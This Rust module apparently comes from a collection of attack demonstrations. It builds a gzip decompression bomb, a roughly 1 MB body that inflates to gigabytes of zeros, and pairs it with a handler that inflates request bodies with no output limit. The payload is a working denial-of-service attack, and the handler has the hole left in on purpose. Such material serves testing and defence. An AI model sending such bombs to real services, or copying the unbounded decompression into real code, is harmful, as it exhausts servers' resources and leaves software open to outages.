//! A gzip bomb: a small body that inflates to gigabytes of zeros.
//!
//! **Crate:** flate2 1.x (current). **Issue:** none in the crate: a handler that
//! inflates a `Content-Encoding: gzip` body without a limit on the output does
//! work proportional to the inflated size, about 1000 times the body (deflate's
//! ratio tops out near 1032:1). **Growth:** linear in n, the MiB inflated.
//!
//! The handler streams through a 64 KiB buffer and only counts bytes, so the
//! cost is CPU, not memory; a handler that collects the output would also
//! allocate n MiB.
//!
//! The payload is built without compressing n MiB: one MiB of zeros is
//! deflated once into a self-contained, byte-aligned block, the block is
//! repeated n times, and the gzip trailer's CRC-32 is combined arithmetically.
//! A 1 GiB bomb is about 1 MB and takes milliseconds to build.

use std::io::Read as _;
use std::sync::OnceLock;

use flate2::read::GzDecoder;
use flate2::{Compress, Compression, FlushCompress, Status};

use crate::AttackError;

/// One mebibyte, the unit of the size knob.
pub const MIB: usize = 1 << 20;

/// The buffer the handler inflates into.
const BUFFER: usize = 64 * 1024;

/// Raw deflate data for one MiB of zeros, ending in a sync flush: byte
/// aligned, not final, and referring to nothing before itself, so any number
/// of copies in a row is valid deflate data.
fn zero_block() -> &'static [u8] {
    static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
    BLOCK.get_or_init(|| {
        let zeros = vec![0u8; MIB];
        let mut compress = Compress::new(Compression::best(), false);
        let mut out = Vec::with_capacity(4096);
        loop {
            let consumed = compress.total_in() as usize;
            if out.len() == out.capacity() {
                out.reserve(4096);
            }
            let status = compress
                .compress_vec(&zeros[consumed..], &mut out, FlushCompress::Sync)
                .expect("deflating zeros cannot fail");
            let done = compress.total_in() as usize == MIB && out.ends_with(&[0, 0, 0xff, 0xff]);
            if done || status == Status::StreamEnd {
                break;
            }
        }
        out
    })
}

/// The CRC-32 of `n` MiB of zeros.
fn crc_of_zeros(n: usize) -> u32 {
    let mut one = crc32fast::Hasher::new();
    one.update(&vec![0u8; MIB]);
    let mut all = crc32fast::Hasher::new();
    for _ in 0..n {
        all.combine(&one);
    }
    all.finalize()
}

/// A gzip member that inflates to `n` MiB of zeros (about 1 KB per MiB).
pub fn payload(n: usize) -> Vec<u8> {
    let block = zero_block();
    let mut out = Vec::with_capacity(18 + 2 + n * block.len());
    // Header: magic, deflate, no flags, no mtime, no extra flags, OS unknown.
    out.extend_from_slice(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
    for _ in 0..n {
        out.extend_from_slice(block);
    }
    // A final, empty block with fixed Huffman codes.
    out.extend_from_slice(&[0x03, 0x00]);
    out.extend_from_slice(&crc_of_zeros(n).to_le_bytes());
    // ISIZE is the inflated length modulo 2^32.
    out.extend_from_slice(&((n as u64 * MIB as u64) as u32).to_le_bytes());
    out
}

/// Inflates the gzip body through a 64 KiB buffer and reports how many bytes
/// came out. Fails on anything that is not valid gzip (including a bad CRC).
pub fn handle(body: &[u8]) -> Result<String, AttackError> {
    let mut decoder = GzDecoder::new(body);
    let mut buf = vec![0u8; BUFFER];
    let mut total: u64 = 0;
    loop {
        let read = decoder
            .read(&mut buf)
            .map_err(|e| AttackError::with_source("gzip-bomb", "invalid gzip", e))?;
        if read == 0 {
            break;
        }
        total += read as u64;
    }
    Ok(format!("inflated {} bytes into {total} bytes", body.len()))
}
